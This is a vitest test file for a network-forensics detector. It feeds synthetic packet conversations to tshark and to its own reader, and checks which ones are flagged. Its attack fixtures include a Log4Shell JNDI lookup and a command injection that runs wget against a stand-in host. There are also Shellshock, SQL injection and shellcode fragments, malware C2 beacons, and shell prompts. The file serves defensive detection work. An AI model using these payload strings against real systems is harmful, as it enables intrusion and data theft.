import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Finding } from '../../../src/domain/finding.ts';
import type { FindingKind } from '../../../src/domain/finding-kinds.ts';
import { asChunks } from '../../fakes/chunks.ts';
import { measureWithoutTools } from '../../../src/forensics/measure/own-reader.ts';
import { capture, type Conversation } from './conversations.ts';
import { checkEvidence, measureFile } from './tshark.ts';

type Said = Conversation['says'][number];
const up = (bytes: string): Said => ({ from: 'client', bytes });
const down = (bytes: string): Said => ({ from: 'server', bytes });

const smb1 = (command: string, words: string): string =>
  `\0\0\0\x60\xffSMB${command}${'\0'.repeat(27)}${words}`;
const PROGRAM = `MZ\x90\0${'\0'.repeat(60)}This program cannot be run in DOS mode.\r\n`;
const page = (type: string, body: string): string =>
  `HTTP/1.1 200 OK\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
const get = (path: string, headers = 'Host: files.example\r\nUser-Agent: Mozilla/5.0 (X11)\r\n'): string =>
  `GET ${path} HTTP/1.1\r\n${headers}\r\n`;
const post = (
  path: string,
  body: string,
  headers = 'Host: a.example\r\nReferer: http://a.example/\r\n',
): string =>
  `POST ${path} HTTP/1.1\r\n${headers}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n${body}`;

/** A port, what is said there, and the kind that must be found between the two hosts. */
const attacks: [string, number, Said[], FindingKind, ('tcp' | 'udp')?][] = [
  [
    'Log4Shell',
    8080,
    [up(get('/', 'Host: a.example\r\nUser-Agent: ${jndi:ldap://192.0.2.1/a}\r\n'))],
    'exploit',
  ],
  [
    'Shellshock',
    80,
    [up(get('/cgi-bin/x', 'Host: a.example\r\nUser-Agent: () { :;}; /bin/cat /etc/passwd\r\n'))],
    'exploit',
  ],
  ['EternalBlue', 445, [up(smb1('\x32', `\x0f${'\0'.repeat(26)}\x01\0\x0e\0${'\0'.repeat(20)}`))], 'exploit'],
  ['a NOP sled', 135, [up(`\x05\0\0\x03${'\x90'.repeat(200)}\xeb\x19`)], 'exploit'],
  ['an overlong user name', 21, [down('220 ready\r\n'), up(`USER ${'A'.repeat(600)}\r\n`)], 'exploit'],
  [
    'Slammer',
    1434,
    [up(`\x04${'\x01'.repeat(96)}\xdc\xc9\xb0\x42\xeb\x0e\x01\x01\x01\x01\x01\x01`)],
    'exploit',
    'udp',
  ],
  [
    'a command in a parameter',
    80,
    [up(get('/cgi-bin/ping?host=1.1.1.1;wget+http://192.0.2.1/a'))],
    'web_attack',
  ],
  ['SQL in a form', 80, [up(post('/login', "user=admin'+or+'1'='1&go=1"))], 'web_attack_sqli'],
  [
    'a Windows shell',
    4444,
    [down('Microsoft Windows XP [Version 5.1.2600]\r\n\r\nC:\\WINDOWS\\system32>')],
    'remote_shell',
  ],
  ['a PowerShell prompt', 9001, [up('PS C:\\Users\\Public> ')], 'remote_shell'],
  ['a Unix shell', 1337, [up('id\n'), down('uid=0(root) gid=0(root) groups=0(root)\n')], 'remote_shell'],
  [
    'a program called an image',
    80,
    [up(get('/logo.png')), down(page('image/png', PROGRAM))],
    'malware_download',
  ],
  ['a program over TFTP', 40_069, [up(`\0\x03\0\x01${PROGRAM}`)], 'malware_download', 'udp'],
  ['a program over a bare connection', 9_999, [down(PROGRAM)], 'malware_download'],
  [
    'a document that a script hands out',
    80,
    [
      up(get('/track/')),
      down(
        `HTTP/1.1 200 OK\r\nContent-Type: application/msword\r\nContent-Disposition: attachment; filename="INV_1.doc"\r\n\r\n\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(80)}`,
      ),
    ],
    'malware_download',
  ],
  [
    'an operator of an unseen shell',
    31_337,
    [down('whoami\n'), up('www-data\n'), down('uname -a\n')],
    'remote_shell',
  ],
  [
    'a report to an address',
    7080,
    [
      up(
        post(
          '/OK21pqJAtyyGBEo00sk',
          'data=AAAA',
          'Host: 198.18.0.9:7080\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0)\r\n',
        ),
      ),
      down(page('text/html', '\x9f\x01\xe2\x88\x13')),
    ],
    'malware_c2',
  ],
  [
    'an exploit kit',
    80,
    [
      up(get('/contrary/16538/quite-someone')),
      down(page('text/html', '<html></html>')),
      up(get('/occasional/bXJkeHFl')),
      down(page('application/x-shockwave-flash', `CWS\x0d${'x'.repeat(40)}`)),
      up(get('/observation/enVjZ2d0')),
      down(page('application/x-msdownload', '\x9f\x01\xe2\x88\x13\x77')),
    ],
    'exploit_kit',
  ],
  ['njRAT', 5552, [up("149\0ll|'|'|SGFja2Vk|'|'|PC|'|'|user")], 'malware_c2'],
  ['Gh0st', 8000, [up('Gh0st\x9f\0\0\0\xd0\0\0\0\x78\x9c\x4b')], 'malware_c2'],
  [
    'an order to a bot',
    6667,
    [down(':x!x@x PRIVMSG #own :.advscan dcom135 100 5 0 -r -s\r\n')],
    'malware_c2',
  ],
  ['CryptoWall', 80, [up(post('/wp/a1b2.php?x=abc123def4567', 'z=0011223344556677889900'))], 'ransomware'],
  [
    'a miner',
    3333,
    [up('{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.0"]}\n')],
    'cryptomining',
  ],
  [
    'a miner of Monero',
    14_444,
    [
      up(
        '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4A","pass":"x","agent":"XMRig/6.0"}}\n',
      ),
    ],
    'cryptomining',
  ],
  ['adware', 80, [up(get('/x', 'Host: deskwx.weatherbug.com\r\nUser-Agent: Mozilla/4.0\r\n'))], 'adware'],
  [
    'an FTP login',
    21,
    [down('220 a\r\n'), up('USER x\r\n'), down('331 b\r\n'), up('PASS y\r\n'), down('230 in\r\n')],
    'successful_login',
  ],
  ['a file by TFTP', 69, [up('\0\x01startup-config\0octet\0')], 'file_transfer', 'udp'],
];

const innocent: [string, number, Said[], FindingKind][] = [
  [
    'a page about a shell',
    80,
    [up(get('/help')), down(page('text/html', '<html>C:\\Windows> uid=0(root) gid=0(root)'))],
    'remote_shell',
  ],
  [
    'a program that says so',
    80,
    [up(get('/setup.exe')), down(page('application/x-msdownload', PROGRAM))],
    'malware_download',
  ],
  ['an ordinary form', 80, [up(post('/search.php?id=7', 'q=tea+or+coffee&n=1'))], 'web_attack_sqli'],
  ['a check-in of a shop', 80, [up(post('/shop.php?page=2', 'a=1'))], 'ransomware'],
  ['JSON that logs a person in', 8080, [up(post('/api', '{"method":"login","user":"a"}'))], 'cryptomining'],
  ['a form of a named site', 7080, [up(post('/login', 'a=1'))], 'malware_c2'],
  [
    'a site with plug-in content',
    80,
    [
      up(get('/')),
      down(page('text/html', '<html></html>')),
      up(get('/game.swf')),
      down(page('application/x-shockwave-flash', 'CWS\x0dxxxx')),
    ],
    'exploit_kit',
  ],
  ['a path with dots', 80, [up(get('/a/../b/style.css'))], 'web_attack_traversal'],
  ['a chat about bots', 6667, [up('PRIVMSG #talk :what does advscan do?\r\n')], 'malware_c2'],
];

const hosts = (index: number) => ({ client: `10.0.${index}.1`, server: `198.18.${index}.2` });
const all = [...attacks, ...innocent].map(
  ([, port, says, , over]: (typeof attacks)[number], index): Conversation => ({
    ...hosts(index),
    port,
    says,
    over: over ?? 'tcp',
  }),
);

const between = (findings: readonly Finding[], index: number, kind: FindingKind) => {
  const { client, server } = hosts(index);
  return findings.filter(
    (finding) =>
      finding.kind === kind &&
      [...finding.actor, ...finding.target].toSorted().join() === [client, server].join(),
  );
};

describe('what packets carry', () => {
  let folder = '';
  let byTshark: Finding[] = [];
  let byUs: Finding[] = [];
  let path = '';
  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'capwright-content-'));
    path = join(folder, 'conversations.pcap');
    const bytes = capture(all);
    writeFileSync(path, bytes);
    byTshark = (await measureFile(path)).findings;
    const file = {
      path,
      bytes: bytes.length,
      sha256: () => Promise.resolve('0'.repeat(64)),
      format: 'pcap' as const,
    };
    const input = { file, signal: new AbortController().signal, onProgress: () => undefined };
    byUs = (await measureWithoutTools(asChunks(chunksOf(path)), input)).findings;
  }, 60_000);
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  it.each(attacks.map(([name, , , kind], index) => ({ name, kind, index })))(
    'gives $name away',
    ({ kind, index }) => {
      expect(between(byTshark, index, kind)).toHaveLength(1);
    },
  );

  it('gives as much away without tshark, where bytes alone tell', () => {
    const missed = attacks.filter(([, , , kind], index) => between(byUs, index, kind).length === 0);

    expect(missed.map(([name]) => name)).toEqual([]);
  });

  it.each(innocent.map(([name, , , kind], index) => ({ name, kind, index: attacks.length + index })))(
    'does not blame $name',
    ({ kind, index }) => {
      expect(between([...byTshark, ...byUs], index, kind)).toEqual([]);
    },
  );

  it('is proved by filters that tshark agrees with', async () => {
    const checked = await checkEvidence(path, byTshark);

    expect(checked.flatMap(({ faults }) => faults)).toEqual([]);
  });
});

async function* chunksOf(path: string): AsyncGenerator<Uint8Array> {
  await Promise.resolve();
  yield readFileSync(path);
}
